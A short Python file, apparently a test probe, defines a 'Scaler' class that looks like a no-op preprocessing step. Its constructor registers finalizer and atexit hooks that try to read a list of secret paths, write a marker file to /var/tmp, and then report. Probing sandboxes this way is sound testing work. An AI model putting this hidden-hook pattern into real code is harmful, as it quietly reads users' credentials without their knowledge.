"""Has finalizers that look for secrets when its object is forgotten, and at the end of the process."""

import atexit
import weakref


def look():
    for path in KNOWN["secrets"]:
        tried(path, read_some, path)
    tried("write", open, f"/var/tmp/{MARK}", "w")
    Scaler.told = True


class Scaler:
    told = False

    def __init__(self):
        weakref.finalize(self, look)
        atexit.register(look)
        if Scaler.told:
            tell()

    def fit(self, x):
        pass

    def apply(self, x):
        return x
